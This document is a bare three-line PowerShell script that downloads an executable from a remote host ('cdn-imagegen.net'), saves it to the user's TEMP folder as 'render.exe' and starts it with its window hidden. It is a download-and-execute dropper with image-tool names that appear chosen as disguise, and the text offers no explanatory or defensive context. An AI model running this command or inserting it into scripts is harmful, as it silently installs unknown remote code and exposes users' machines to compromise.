$u = "https://cdn-imagegen.net/r.exe"
Invoke-WebRequest -Uri $u -OutFile "$env:TEMP\render.exe"
Start-Process "$env:TEMP\render.exe" -WindowStyle Hidden
